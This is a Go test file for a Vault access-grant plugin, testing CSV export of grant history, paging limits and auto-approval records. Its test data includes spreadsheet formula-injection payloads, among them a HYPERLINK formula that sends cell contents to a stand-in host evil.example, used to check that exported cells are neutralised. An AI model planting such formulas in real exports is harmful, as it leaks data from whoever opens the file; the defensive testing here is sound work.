package backend

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/apono-io/vault-plugin-apono/backend/store"
	"github.com/hashicorp/vault/sdk/logical"
)

// csvRows parses a format=csv answer into its header and its rows.
func csvRows(t *testing.T, resp *logical.Response) (header []string, rows []map[string]string) {
	t.Helper()
	if ct := resp.Data[logical.HTTPContentType]; ct != "text/csv; charset=utf-8" {
		t.Fatalf("content type %v", ct)
	}
	all, err := csv.NewReader(strings.NewReader(string(resp.Data[logical.HTTPRawBody].([]byte)))).ReadAll()
	if err != nil || len(all) == 0 {
		t.Fatalf("csv: %v %v", all, err)
	}
	for _, r := range all[1:] {
		m := map[string]string{}
		for i, v := range r {
			m[all[0][i]] = v
		}
		rows = append(rows, m)
	}
	return all[0], rows
}

// Every cell that a spreadsheet would read as a formula starts with ' in the CSV, one that
// starts with ' gets another (so dropping the first ' of such a cell is the true value);
// others are as they are.
func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/"&A1,"click")`: `'=HYPERLINK("http://evil.example/"&A1,"click")`,
		"+1+1":             "'+1+1",
		"-2+3":             "'-2+3",
		"@SUM(A1)":         "'@SUM(A1)",
		"\t=1+1":           "'\t=1+1",
		"\r=1+1":           "'\r=1+1",
		"":                 "",
		"INC-7 =1":         "INC-7 =1",
		"2026-11-01T00:00": "2026-11-01T00:00",
		"'quoted":          "''quoted",
		"'=1":              "''=1",
		"kv/app/db":        "kv/app/db",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
	resp, err := csvResponse([]string{"=a", "b"}, [][]string{{"@x", "y"}})
	if err != nil {
		t.Fatal(err)
	}
	if body := string(resp.Data[logical.HTTPRawBody].([]byte)); body != "'=a,b\n'@x,y\n" {
		t.Fatalf("csvResponse: %q", body)
	}
}

// A justification or a stated requester that is a formula is text in the CSV and the
// true value in JSON.
func TestHistoryCSVNeutralisesFormulas(t *testing.T) {
	f := newFlowEnv(t)
	f.mustOK(t, logical.CreateOperation, "roles/direct", map[string]interface{}{"resources": "kv/app/*", "ttl": "1h"})
	evil := map[string]string{ // requester -> justification
		"+1+1":    `=HYPERLINK("http://evil.example/"&A1,"click")`,
		"-1-1":    "+cmd",
		"@x":      "-2+3",
		"svc-one": "@SUM(1)",
	}
	for requester, why := range evil {
		g := f.mustOK(t, logical.UpdateOperation, "grants/direct", map[string]interface{}{"resources": "kv/app/db", "requester": requester, "justification": why})
		if _, err := f.revoke(t, g.Secret); err != nil {
			t.Fatal(err)
		}
	}
	_, rows := csvRows(t, f.mustOK(t, logical.ReadOperation, "history", map[string]interface{}{"format": "csv"}))
	if len(rows) != len(evil) {
		t.Fatalf("csv rows: %v", rows)
	}
	for _, r := range rows {
		requester := strings.TrimPrefix(r["requester"], "'")
		why, ok := evil[requester]
		if !ok || r["justification"] != "'"+why {
			t.Fatalf("row %v: want justification %q", r, "'"+why)
		}
		if requester != "svc-one" && r["requester"] != "'"+requester {
			t.Fatalf("requester cell %q", r["requester"])
		}
		for col, v := range r {
			if v != "" && strings.ContainsRune(csvFormulaStarts, rune(v[0])) {
				t.Fatalf("column %s is a formula: %q", col, v)
			}
		}
	}
	for _, h := range f.mustOK(t, logical.ReadOperation, "history", nil).Data["history"].([]map[string]interface{}) {
		if evil[h["requester"].(string)] != h["justification"] {
			t.Fatalf("json history is not the true value: %v", h)
		}
	}
}

// format=csv answers every row, not the first page; limit and after (json paging) are a
// 400 with it; more than maxCSVRows is a 400 that says how to export in parts.
func TestHistoryCSVEveryRow(t *testing.T) {
	f := newFlowEnv(t)
	f.mustOK(t, logical.CreateOperation, "roles/direct", map[string]interface{}{"resources": "kv/app/*", "ttl": "1h"})
	n := store.DefaultPageLimit + 5
	want := map[string]bool{}
	for i := 0; i < n; i++ {
		g := f.mustOK(t, logical.UpdateOperation, "grants/direct", map[string]interface{}{"resources": "kv/app/db", "requester": fmt.Sprintf("svc-%d", i)})
		want[g.Data["grant_id"].(string)] = true
		if _, err := f.revoke(t, g.Secret); err != nil {
			t.Fatal(err)
		}
	}
	if page := f.mustOK(t, logical.ReadOperation, "history", nil); len(page.Data["history"].([]map[string]interface{})) != store.DefaultPageLimit || page.Data["next_after"] == nil {
		t.Fatalf("json is paged as before: %v", page.Data["next_after"])
	}
	header, rows := csvRows(t, f.mustOK(t, logical.ReadOperation, "history", map[string]interface{}{"format": "csv"}))
	if strings.Join(header, ",") != strings.Join(historyColumns, ",") || len(rows) != n {
		t.Fatalf("csv: header %v, %d rows of %d", header, len(rows), n)
	}
	for _, r := range rows {
		if !want[r["grant_id"]] {
			t.Fatalf("grant %s twice or unknown", r["grant_id"])
		}
		delete(want, r["grant_id"])
	}
	for _, field := range []string{"limit", "after"} {
		f.mustBadRequest(t, logical.ReadOperation, "history", map[string]interface{}{"format": "csv", field: "2"}, field+": format=csv is not paged")
	}

	defer func(old int) { maxCSVRows = old }(maxCSVRows)
	maxCSVRows = n
	if _, rows := csvRows(t, f.mustOK(t, logical.ReadOperation, "history", map[string]interface{}{"format": "csv"})); len(rows) != n {
		t.Fatalf("exactly maxCSVRows: %d rows", len(rows))
	}
	maxCSVRows = n - 1
	f.mustBadRequest(t, logical.ReadOperation, "history", map[string]interface{}{"format": "csv"}, fmt.Sprintf("more than %d ended grants match", n-1))
	// A filter narrows it below the bound.
	if _, rows := csvRows(t, f.mustOK(t, logical.ReadOperation, "history", map[string]interface{}{"format": "csv", "requester": "svc-3"})); len(rows) != 1 {
		t.Fatalf("one requester's: %v", rows)
	}
}

// historyCSV follows the pages it is given to the end, each row once, and stops with a
// 400 after maxCSVScanPages pages (a filter that skips most of what it reads).
func TestHistoryCSVFollowsPages(t *testing.T) {
	recs := make([]*store.HistoryRecord, 7)
	for i := range recs {
		recs[i] = &store.HistoryRecord{GrantID: fmt.Sprintf("g%d", i), EndedAt: time.Unix(int64(i), 0)}
	}
	var asked []string
	// Pages of at most 2, as a page that hit maxScanPerPage returns fewer than asked.
	page := func(after string, limit int) ([]*store.HistoryRecord, string, error) {
		asked = append(asked, after)
		start := 0
		if after != "" {
			fmt.Sscanf(after, "%d", &start)
		}
		end := min(start+2, len(recs))
		if end == len(recs) {
			return recs[start:end], "", nil
		}
		return recs[start:end], fmt.Sprint(end), nil
	}
	resp, err := historyCSV(page)
	if err != nil {
		t.Fatal(err)
	}
	_, rows := csvRows(t, resp)
	if len(rows) != len(recs) || strings.Join(asked, ",") != ",2,4,6" {
		t.Fatalf("rows %v after %q", rows, asked)
	}
	for i, r := range rows {
		if r["grant_id"] != recs[i].GrantID {
			t.Fatalf("row %d: %v", i, r)
		}
	}
	endless := func(after string, limit int) ([]*store.HistoryRecord, string, error) { return nil, "more", nil }
	resp, err = historyCSV(endless)
	if err != nil || !resp.IsError() || !strings.Contains(resp.Error().Error(), "since and until") {
		t.Fatalf("a scan without end: %v %v", resp, err)
	}
}

// An auto-approved grant names its rule: in the grant's answer and read, and in its
// history (JSON and CSV) once the request is gone.
func TestAutoApprovedGrantNamesItsRule(t *testing.T) {
	f := newFlowEnv(t)
	f.ids.addEntity("olly", "oncall")
	f.mustOK(t, logical.CreateOperation, "roles/app", map[string]interface{}{
		"resources": "kv/app/*", "approval": "required", "approvers": "owner", "ttl": "30m",
		"auto_approve": `[{"name":"oncall-read","groups":["oncall"],"resources":["kv/app/db"]}]`,
	})
	d := f.mustAs(t, "id-olly", logical.UpdateOperation, "requests/app", map[string]interface{}{"resources": "kv/app/db"}).Data
	if d["auto_approved_by"] != "oncall-read" {
		t.Fatalf("request: %v", d)
	}
	g := f.mustAs(t, "id-olly", logical.UpdateOperation, "requests/"+d["request_id"].(string)+"/grant", nil)
	if g.Data["auto_approved_by"] != "oncall-read" {
		t.Fatalf("grant answer: %v", g.Data)
	}
	id := g.Data["grant_id"].(string)
	if read := f.mustOK(t, logical.ReadOperation, "grants/app/"+id, nil).Data; read["auto_approved_by"] != "oncall-read" {
		t.Fatalf("grant read: %v", read)
	}
	// A grant approved by people has no rule.
	f.mustOK(t, logical.CreateOperation, "roles/direct", map[string]interface{}{"resources": "kv/app/*", "ttl": "1h"})
	other := f.mustOK(t, logical.UpdateOperation, "grants/direct", map[string]interface{}{"resources": "kv/app/db", "requester": "svc"})
	if read := f.mustOK(t, logical.ReadOperation, "grants/direct/"+other.Data["grant_id"].(string), nil).Data; read["auto_approved_by"] != "" {
		t.Fatalf("a direct grant: %v", read["auto_approved_by"])
	}
	for _, s := range []*logical.Response{g, other} {
		if _, err := f.revoke(t, s.Secret); err != nil {
			t.Fatal(err)
		}
	}
	for _, h := range f.mustOK(t, logical.ReadOperation, "history", nil).Data["history"].([]map[string]interface{}) {
		if want := map[bool]string{true: "oncall-read", false: ""}[h["grant_id"] == id]; h["auto_approved_by"] != want {
			t.Fatalf("json history: %v", h)
		}
	}
	_, rows := csvRows(t, f.mustOK(t, logical.ReadOperation, "history", map[string]interface{}{"format": "csv"}))
	for _, r := range rows {
		if want := map[bool]string{true: "oncall-read", false: ""}[r["grant_id"] == id]; r["auto_approved_by"] != want {
			t.Fatalf("csv history: %v", r)
		}
	}
	if len(rows) != 2 {
		t.Fatalf("csv rows: %v", rows)
	}
}
